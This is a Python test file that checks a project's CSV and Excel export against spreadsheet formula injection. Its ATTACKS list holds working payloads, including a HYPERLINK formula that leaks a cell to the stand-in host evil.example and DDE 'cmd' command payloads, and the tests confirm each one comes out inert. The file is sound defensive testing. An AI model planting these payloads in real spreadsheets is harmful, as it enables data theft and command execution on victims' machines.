"""Every CSV and .xlsx we write keeps text as text: nothing a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from tsunagari.spreadsheets import (
    append_row,
    csv_text,
    inert,
    is_number,
    new_workbook,
    runs_as_formula,
)

SRC = Path(__file__).resolve().parents[1] / "src" / "tsunagari"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"詳しくはこちら")',
    "=1+2+cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
    "＝1+1",
]
STARTS = st.sampled_from(["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
SPACE = st.text(alphabet=" \u3000\u00a0", max_size=3)


def _spreadsheet_would_run(field: str) -> bool:
    """What a spreadsheet does with a CSV field: strip spaces, then look at the first sign."""
    if is_number(field):
        return False
    rest = field.lstrip(" \u3000\u00a0\n")
    return rest != "" and rest[0] in "=+-@\t\r＝＋－＠"


@given(SPACE, STARTS, st.text(max_size=40))
def test_any_text_that_starts_like_a_formula_comes_out_inert(
    space: str, start: str, rest: str
) -> None:
    text = space + start + rest
    if is_number(text):
        assert inert(text) == text
    else:
        assert runs_as_formula(text)
        assert inert(text) == "'" + text
        assert not _spreadsheet_would_run(inert(text))


@given(st.text(max_size=60))
def test_a_field_never_runs_and_keeps_its_text_after_the_apostrophe(text: str) -> None:
    out = inert(text)
    assert not _spreadsheet_would_run(out)
    assert out in (text, "'" + text)


@given(st.one_of(st.integers(), st.floats(allow_nan=False, allow_infinity=False)))
def test_numbers_negative_ones_included_stay_numbers(number: float) -> None:
    assert inert(number) == number
    assert inert(repr(number)) == repr(number)
    assert inert(str(number)) == str(number)


def test_plain_japanese_text_and_dates_are_untouched() -> None:
    for text in ["孤独・孤立の実態把握", "令和6年度", "2025-03-31", "", "A=B", "e-mail"]:
        assert inert(text) == text


@given(st.lists(st.text(st.characters(blacklist_characters="\x00"), max_size=20), max_size=5))
def test_a_csv_row_reads_back_with_only_the_apostrophes_added(row: list[str]) -> None:
    text = csv_text(["a"], [row])
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read[1:] == ([[inert(v) for v in row]] if row else [[]])


def test_every_attack_is_inert_in_csv_and_xlsx(tmp_path: Path) -> None:
    text = csv_text(["x"], [[a] for a in ATTACKS])
    fields = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert fields == ["'" + a for a in ATTACKS]
    book, sheet = new_workbook("t")
    for attack in ATTACKS:
        append_row(sheet, [attack, -3.5, "-3.5"])
    path = tmp_path / "t.xlsx"
    book.save(path)
    assert_no_formula(path)
    reread = load_workbook(path).active
    assert reread is not None
    # XML keeps no bare carriage return: it reads back as a line feed
    assert [row[0] for row in reread.iter_rows(values_only=True)] == [
        a.replace("\r", "\n") for a in ATTACKS
    ]
    assert {row[1] for row in reread.iter_rows(values_only=True)} == {-3.5}


def assert_no_formula(path: Path) -> None:
    """No cell of the file is a formula: no <f> element, no cell typed as one."""
    from zipfile import ZipFile

    with ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)


def test_nothing_else_writes_csv_or_builds_a_workbook() -> None:
    """One door for spreadsheets: every writer goes through tsunagari.spreadsheets."""
    offenders = []
    for path in SRC.rglob("*.py"):
        if path.name == "spreadsheets.py" or "migrations" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        # Reading a workbook (load_workbook) is no door out; building one is.
        if re.search(
            r"csv\.(writer|DictWriter)\(|\bWorkbook\(|from openpyxl import .*\bWorkbook\b", source
        ):
            offenders.append(str(path.relative_to(SRC)))
        if "openpyxl" in source and re.search(r"sheet\.append\(", source):
            offenders.append(str(path.relative_to(SRC)))
    assert offenders == []
